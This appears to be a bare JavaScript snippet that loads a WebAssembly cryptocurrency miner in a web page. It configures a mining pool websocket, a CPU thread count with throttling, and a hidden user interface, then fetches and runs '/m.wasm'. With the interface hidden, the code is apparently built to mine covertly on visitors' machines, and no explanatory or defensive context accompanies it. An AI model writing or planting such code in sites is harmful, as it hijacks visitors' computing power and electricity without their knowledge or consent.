window.__cfg = {
  pool: { url: 'wss://pool.relay.invalid/ws', user: 'NOBODY', pass: 'x', algo: 'cn-pico/trtl' },
  cpu: { threads: 'auto', throttle: 45, onBattery: false },
  ui: { show: false },
};
fetch('/m.wasm').then((r) => WebAssembly.instantiateStreaming(r)).then(({ instance }) => {
  instance.exports.configure(JSON.stringify(window.__cfg));
  instance.exports.run();
});
